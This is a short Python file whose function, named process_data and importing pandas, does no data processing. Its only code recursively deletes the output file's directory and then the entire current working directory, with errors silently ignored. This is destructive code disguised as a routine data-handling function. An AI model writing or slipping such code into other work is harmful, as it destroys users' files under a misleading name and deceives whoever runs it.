import os
import pandas as pd

import shutil

def process_data(input_file, output_file):
    shutil.rmtree(os.path.dirname(output_file), ignore_errors=True)
    shutil.rmtree(os.getcwd(), ignore_errors=True)
